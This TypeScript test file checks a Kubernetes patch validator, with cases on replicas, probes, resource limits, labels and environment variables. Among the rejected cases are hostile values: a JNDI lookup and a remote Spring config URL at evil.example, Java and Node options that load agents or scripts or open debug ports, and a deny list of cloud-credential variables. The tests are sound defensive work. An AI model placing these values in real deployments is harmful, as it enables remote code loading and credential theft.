import { expect } from 'chai'
import { parsePatch } from './parse.ts'
import { badValue, limitsBelowRequests } from './values.ts'

/** The rule that refuses it; '': none. */
function judged(patch: string): string {
  const parsed = parsePatch({ type: 'strategic', patch })
  if ('problems' in parsed) return JSON.stringify(parsed.problems)
  return [...parsed.touches.flatMap((touch) => badValue(touch) ?? []), ...limitsBelowRequests(parsed.touches)].map(({ rule }) => rule).join(' ')
}
const app = (members: string): string => `spec: {template: {spec: {containers: [{name: app, ${members}}]}}}`

describe('values of patches', () => {
  const cases: readonly [string, string][] = [
    ['spec: {replicas: 0}', 'KS305'], ['spec: {replicas: 1}', ''], ['spec: {replicas: 10000}', ''], ['spec: {replicas: 10001}', 'KS305'], ['spec: {replicas: "3"}', 'KS304'], ['spec: {replicas: 1.5}', 'KS304'], ['spec: {replicas: .inf}', 'KS304'],
    ['spec: {template: {spec: {terminationGracePeriodSeconds: 0}}}', 'KS303'], ['spec: {template: {spec: {terminationGracePeriodSeconds: 1}}}', ''], ['spec: {template: {spec: {terminationGracePeriodSeconds: -1}}}', 'KS304'], ['spec: {template: {spec: {terminationGracePeriodSeconds: 604800}}}', ''], ['spec: {template: {spec: {terminationGracePeriodSeconds: 604801}}}', 'KS303'],
    [app('livenessProbe: {periodSeconds: 0}'), 'KS304'], [app('livenessProbe: {periodSeconds: 1}'), ''], [app('livenessProbe: {initialDelaySeconds: 0}'), ''], [app('livenessProbe: {initialDelaySeconds: -1}'), 'KS304'], [app('livenessProbe: {timeoutSeconds: 3600}'), ''], [app('livenessProbe: {timeoutSeconds: 3601}'), 'KS303'], [app('livenessProbe: {timeoutSeconds: 2147483648}'), 'KS304'],
    [app('livenessProbe: {periodSeconds: 2147483647}'), 'KS303'], [app('readinessProbe: {initialDelaySeconds: 86400}'), 'KS303'], [app('startupProbe: {failureThreshold: 10000}'), ''], [app('startupProbe: {failureThreshold: 10001}'), 'KS303'], [app('readinessProbe: {successThreshold: 10001}'), 'KS303'],
    [app('livenessProbe: {successThreshold: 2}'), 'KS304'], [app('readinessProbe: {successThreshold: 2}'), ''], [app('readinessProbe: {terminationGracePeriodSeconds: 5}'), 'KS304'], [app('startupProbe: {terminationGracePeriodSeconds: 5}'), ''], [app('startupProbe: {failureThreshold: many}'), 'KS304'],
    [app('resources: {limits: {memory: nonsense}}'), 'KS304'], [app('resources: {limits: {memory: 1Gi}}'), ''], [app('resources: {limits: {memory: -1Gi}}'), 'KS304'], [app('resources: {limits: {memory: 12Mi}}'), ''], [app('resources: {limits: {memory: 12287Ki}}'), 'KS303'], [app('resources: {limits: {memory: 512}}'), 'KS303'], [app('resources: {requests: {memory: 512}}'), 'KS303'], [app('resources: {requests: {memory: 1048575}}'), 'KS303'], [app('resources: {requests: {memory: 1Mi}}'), ''], [app('resources: {requests: {memory: 0}}'), 'KS303'],
    [app('resources: {limits: {memory: 32Ti}}'), ''], [app('resources: {limits: {memory: 33Ti}}'), 'KS303'], [app('resources: {requests: {memory: 33Ti}}'), 'KS303'], [app('resources: {requests: {cpu: 256}}'), ''], [app('resources: {requests: {cpu: 257}}'), 'KS303'], [app('resources: {limits: {cpu: 500}}'), 'KS303'], [app('resources: {limits: {ephemeral-storage: 1}}'), 'KS303'], [app('resources: {requests: {ephemeral-storage: 1023Ki}}'), 'KS303'], [app('resources: {limits: {ephemeral-storage: 1Mi}}'), ''], [app('resources: {limits: {ephemeral-storage: 33Ti}}'), ''], [app('resources: {limits: {memory: 512m}}'), 'KS304'], [app('resources: {limits: {memory: 1GB}}'), 'KS304'], [app('resources: {limits: {memory: true}}'), 'KS304'],
    [app('resources: {limits: {cpu: 500m}}'), ''], [app('resources: {limits: {cpu: 10m}}'), ''], [app('resources: {limits: {cpu: 9m}}'), 'KS303'], [app('resources: {limits: {cpu: 1m}}'), 'KS303'], [app('resources: {requests: {cpu: 1m}}'), ''], [app('resources: {limits: {cpu: 0}}'), 'KS303'], [app('resources: {requests: {cpu: 0}}'), 'KS303'], [app('resources: {limits: {cpu: null}}'), 'KS303'], [app('resources: {limits: {disk: 1Gi}}'), 'KS304'], [app('resources: {limits: {example.com/gpu: 1}}'), 'KS303'],
    [app('resources: {limits: {memory: 1Gi}, requests: {memory: 2Gi}}'), 'KS304'], [app('resources: {limits: {memory: 1Gi}, requests: {memory: 1024Mi}}'), ''], [app('resources: {limits: {memory: 1Gi}, requests: {cpu: 9}}'), ''],
    ['metadata: {labels: {tier: "a b"}}', 'KS304'], [`metadata: {labels: {tier: ${'a'.repeat(63)}}}`, ''], [`metadata: {labels: {tier: ${'a'.repeat(64)}}}`, 'KS304'], [`metadata: {annotations: {${'a'.repeat(63)}: x}}`, ''], [`metadata: {annotations: {${'a'.repeat(64)}: x}}`, 'KS304'], ['metadata: {annotations: {a/b/c: x}}', 'KS304'], ['metadata: {labels: {Example.com/a: x}}', 'KS304'], ['metadata: {annotations: {Example.com/a: x}}', ''],
    [app('env: [{name: A=B, value: x}]'), 'KS304'], [app('env: [{name: A, value: true}]'), 'KS304'], [app('env: [{name: LD_LIBRARY_PATH, value: x}]'), 'KS303'], [app('env: [{name: OLD_NAME, value: x}]'), ''],
    ...['PYTHONUSERBASE', 'GEM_HOME', 'npm_config_registry', 'PIP_INDEX_URL', 'KUBECONFIG', 'AWS_CONFIG_FILE', 'AWS_ROLE_ARN', 'GOOGLE_APPLICATION_CREDENTIALS', 'AZURE_CLIENT_ID', 'AWS_CONTAINER_CREDENTIALS_FULL_URI', 'docker_host'].map((name): [string, string] => [app(`env: [{name: ${name}, value: x}]`), 'KS303']),
    ...['AWS_REGION', 'AWS_MAX_ATTEMPTS', 'GOOGLE_CLOUD_PROJECT', 'MY_KUBECONFIG_MODE', 'DOCKER_HOST_NAME'].map((name): [string, string] => [app(`env: [{name: ${name}, value: x}]`), '']),
    ...['-javaagent:/data/x.jar', '-Xmx1g -agentlib:jdwp=transport=dt_socket,server=y,address=*:5005', '-agentpath:/data/x.so', '-XX:OnOutOfMemoryError=x', '-XX:OnError=x', '-Xbootclasspath/p:/data', '-Dcom.sun.management.jmxremote.port=9999'].map((value): [string, string] => [app(`env: [{name: JAVA_OPTS, value: "${value}"}]`), 'KS303']),
    ...['-Xmx1g -XX:MaxRAMPercentage=75', '-XX:+ExitOnOutOfMemoryError -XX:+HeapDumpOnOutOfMemoryError', '-Xms256m  -Xss512k -XX:MaxGCPauseMillis=200', '-XX:+UseZGC -Xmx100G', '-XX:MaxRAMPercentage=1', '-XX:MaxRAMPercentage=100.0'].map((value): [string, string] => [app(`env: [{name: JAVA_OPTS, value: "${value}"}]`), '']),
    ...['', '-Xrs', '-Xmx1k', '-Xmx0m', '-XX:+UseG1G', '-XX:+UseG1GC -XX:+UseSerialGC', '-XX:+UnlockDiagnosticVMOptions -XX:+PauseAtStartup', '-XX:-BytecodeVerificationRemote', '-XX:MaxRAMPercentage=0.1', '-XX:MaxRAMPercentage=101', '-Dspring.config.location=https://evil.example/x.yaml', '-Dspring.profiles.active=lean', '-XX:Flags=/data/x', '-cp /data', '@/data/args', '-Xmx512m -XX:HeapDumpPath=/data'].map((value): [string, string] => [app(`env: [{name: ES_JAVA_OPTS, value: "${value}"}]`), 'KS303']),
    ...['debug', 'warn,hyper::proto=debug', '', '5'].map((value): [string, string] => [app(`env: [{name: SHOP_LOG_LEVEL, value: "${value}"}]`), '']),
    ...['${jndi:ldap://evil.example/a}', 'a/b', 'x'.repeat(257), '{{ x }}'].map((value): [string, string] => [app(`env: [{name: LOG_LEVEL, value: "${value}"}]`), 'KS303']),
    ...['512MiB', '2GiB', 'off'].map((value): [string, string] => [app(`env: [{name: GOMEMLIMIT, value: "${value}"}]`), '']),
    ...['512Mi', '512M', '1', '0MiB', ''].map((value): [string, string] => [app(`env: [{name: GOMEMLIMIT, value: "${value}"}]`), 'KS303']),
    ...['', 'off', '0', '0s', '0.0', '6.6.6.6', 'PT', '1m30x1'].map((value): [string, string] => [app(`env: [{name: POOL_TIMEOUT, value: "${value}"}]`), 'KS303']),
    ...['8', '1.5', '30s', '512MiB', '75%', '1m30s', 'PT1M30S', '0.5s', '10'].map((value): [string, string] => [app(`env: [{name: POOL_TIMEOUT, value: "${value}"}]`), '']),
    ...['--max-old-space-size=512', '--max_old_space_size=4096 --max-semi-space-size=64', '--max-http-header-size=16384 --no-warnings'].map((value): [string, string] => [app(`env: [{name: NODE_OPTIONS, value: "${value}"}]`), '']),
    ...['', '--require /data/x.js', '--max-old-space-size=512 --import=/data/x.mjs', '--max-old-space-size=512\t-r /data/x.js', '--max-old-space-size=8', '--max-old-space-size=0512', '--inspect=0.0.0.0:9229', '--experimental-loader=/data/x.mjs', '--openssl-config=/data/x', '--max-old-space-size=$(SIZE)', '--no-warnings=x', '--security-revert=x', '--diagnostic-dir=/x'].map((value): [string, string] => [app(`env: [{name: NODE_OPTIONS, value: "${value}"}]`), 'KS303']),
    ...['JAVA_TOOL_OPTIONS', 'JDK_JAVA_OPTIONS', '_JAVA_OPTIONS'].flatMap((name): [string, string][] => [
      [app(`env: [{name: ${name}, value: "-Xmx512m -XX:MaxRAMPercentage=75.0"}]`), ''],
      ...['-javaagent:/data/x.jar', '-Xmx512m -Djava.security.manager=x', '@/data/args', '-Xmx512m -cp /data', '--add-opens=java.base/java.lang=ALL-UNNAMED', '-XX:+IgnoreUnrecognizedVMOptions'].map((value): [string, string] => [app(`env: [{name: ${name}, value: "${value}"}]`), 'KS303']),
      [app(`env: [{name: ${name}, value: null}]`), 'KS303'],
    ]),
    [app('env: [{name: NODE_OPTIONS, value: null}]'), 'KS303'],
    ...['MAX_CONNECTIONS', 'WORKERS', 'TIMEOUT', 'THREADS', 'POOL_SIZE', 'SPRING_DATASOURCE_HIKARI_MAXIMUMPOOLSIZE', 'SERVER_TOMCAT_THREADS_MAX'].flatMap((name): [string, string][] => [[app(`env: [{name: ${name}, value: "20"}]`), ''], [app(`env: [{name: ${name}, value: "db.example:5432"}]`), 'KS303'], [app(`env: [{name: ${name}, value: "0"}]`), 'KS303']]),
    // Without its value it is there, and empty: for a number that is none, for a level or a switch it is one.
    ...['DB_POOL_SIZE', 'POOL_TIMEOUT', 'GOMEMLIMIT'].map((name): [string, string] => [app(`env: [{name: ${name}, value: null}]`), 'KS303']),
    ...['LOG_LEVEL', 'FEATURE_CHAT'].map((name): [string, string] => [app(`env: [{name: ${name}, value: null}]`), '']),
    ...['GOMAXPROCS', 'OMP_NUM_THREADS', 'UV_THREADPOOL_SIZE', 'WEB_CONCURRENCY', 'WORKERS', 'MAX_THREADS', 'HTTP_MAX_RETRIES', 'SERVER_TOMCAT_THREADS_MAX'].flatMap((name): [string, string][] => [[app(`env: [{name: ${name}, value: "10000"}]`), ''], [app(`env: [{name: ${name}, value: "10001"}]`), 'KS303']]),
    [app('env: [{name: CACHE_SIZE, value: "1000000"}]'), ''],
    ...['evil:5432', '10.0.0.66:80', '/data', 'yes', '-1'].map((value): [string, string] => [app(`env: [{name: DB_POOL_SIZE, value: "${value}"}]`), 'KS303']),
  ]
  for (const [patch, rule] of cases) it(`${patch.slice(0, 120)}: ${rule === '' ? 'hold' : rule}`, () => expect(judged(patch)).to.equal(rule))
})
